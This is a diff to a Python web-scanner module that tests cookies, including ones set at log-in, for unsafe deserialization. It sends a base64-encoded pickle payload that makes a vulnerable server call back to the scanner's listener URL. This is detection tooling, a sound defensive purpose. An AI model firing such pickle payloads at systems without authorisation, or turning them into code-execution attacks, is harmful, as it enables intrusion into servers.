@@ -2,20 +2,26 @@
 
 import base64
 import binascii
-from collections.abc import Iterator
-from dataclasses import dataclass
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass, replace
 from typing import Final
 from urllib.parse import unquote
 
+from stopper.core.app import Route
 from stopper.core.cookie_flags import set_cookies
-from stopper.core.exchange import Exchange, Response
+from stopper.core.exchange import Exchange, Request, Response
 from stopper.core.finding import Evidence
 from stopper.core.place import RouteRef
 from stopper.core.probe import Steps, Target, listen, send
 from stopper.core.probe_baseline import attempt, candidates
+from stopper.core.probe_login import known_log_in
 
 PAGES_MOST: Final = {"quick": 4, "standard": 12, "deep": 40}
 """Answers in which such a cookie is looked for, by the scan's depth."""
+
+
+LOGGED_IN_MOST: Final = 8
+"""Pages at which a cookie of a log-in is tried."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -23,6 +29,9 @@ class _Packed:
     ref: RouteRef
     name: str
     exchange: Exchange
+    """The answer that set it."""
+    read: Request | None = None
+    """A request that may read it, where that is another."""
 
 
 def unpacked_cookies(target: Target) -> Steps[tuple[tuple[RouteRef, ...], list[Evidence]]]:
@@ -37,10 +46,13 @@ def unpacked_cookies(target: Target) -> Steps[tuple[tuple[RouteRef, ...], list[E
             seen.setdefault(name, _Packed(RouteRef(method, route.path), name, exchange))
     places: list[RouteRef] = []
     evidence: list[Evidence] = []
-    for number, one in enumerate(seen.values()):
+    found = [*seen.values(), *_of_log_ins(target, pairs, set(seen))]
+    for number, one in enumerate(found):
+        if one.ref in places or (one.name not in seen and places):
+            continue
         listener = yield from listen()
         object_ = f"curllib.request\nurlopen\n(V{listener.url}/{target.canary}-{number}\ntR."
-        worn = one.exchange.request.with_headers(
+        worn = replace(one.read or one.exchange.request, identity=None).with_headers(
             ("Cookie", f"{one.name}={base64.b64encode(object_.encode()).decode()}")
         )
         answer = yield from send(worn)
@@ -54,6 +66,17 @@ def unpacked_cookies(target: Target) -> Steps[tuple[tuple[RouteRef, ...], list[E
                 Evidence("effect", f"the server came because of the cookie {one.name}"),
             ]
     return tuple(places), evidence
+
+
+def _of_log_ins(target: Target, pairs: Sequence[tuple[Route, str]], known: set[str]) -> Iterator[_Packed]:
+    """Such cookies of a log-in, each at some pages: which of them reads it, nothing tells."""
+    for person in target.identities[:1]:
+        entered = known_log_in(target, person)
+        if entered is None:
+            continue
+        for name in packed_cookies(entered.response):
+            for route, method in pairs[:LOGGED_IN_MOST] if name not in known else ():
+                yield _Packed(RouteRef(method, route.path), name, entered, target.request_for(route, method))
 
 
 def packed_cookies(response: Response) -> Iterator[str]:
